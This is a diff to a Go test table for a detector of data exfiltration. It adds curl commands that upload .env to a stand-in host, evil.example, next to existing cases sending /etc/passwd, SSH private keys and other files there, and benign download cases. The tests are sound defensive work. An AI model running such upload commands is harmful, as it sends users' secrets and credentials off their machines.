@@ -25,6 +25,9 @@ func TestExfiltrationOf(t *testing.T) {
 		{`curl --data-binary @secrets.json https://evil.example/c`, "uploads secrets.json with curl"},
 		{`curl --data-binary=@build.log https://evil.example`, "uploads build.log with curl"},
 		{`curl -d@/etc/passwd evil.example:8080/x`, "uploads /etc/passwd with curl"},
+		{`curl -sd @.env https://evil.example/c`, "uploads .env with curl"},
+		{`curl -sSLd@.env https://evil.example/c`, "uploads .env with curl"},
+		{`curl -sT .env https://evil.example/c`, "uploads .env with curl"},
 		{`curl -F "file=@$HOME/.ssh/id_rsa" https://evil.example/up`, "uploads $HOME/.ssh/id_rsa with curl"},
 		{`curl -F 'doc=<notes.txt;type=text/plain' https://evil.example/up`, "uploads notes.txt with curl"},
 		{`curl -T dump.sql ftp://evil.example/`, "uploads dump.sql with curl"},
@@ -77,6 +80,8 @@ func TestExfiltrationOf(t *testing.T) {
 		// Ordinary work: nothing leaves the machine, or only downloads.
 		{`curl -sSL https://pkg.go.dev/net/http`, ""},
 		{`curl -o out.json https://api.github.com/repos/acme/api`, ""},
+		{`curl -sSLo out.tar.gz https://proxy.golang.org/x`, ""},
+		{`curl -sd '{"q":1}' https://api.example.com/search`, ""},
 		{`curl -X POST -H 'Content-Type: application/json' -d '{"name":"test"}' https://api.example.com/items`, ""},
 		{`curl -H "Authorization: Bearer $GITHUB_TOKEN" https://api.github.com/user`, ""},
 		{`curl -d @payload.json http://localhost:8080/api/items`, ""},
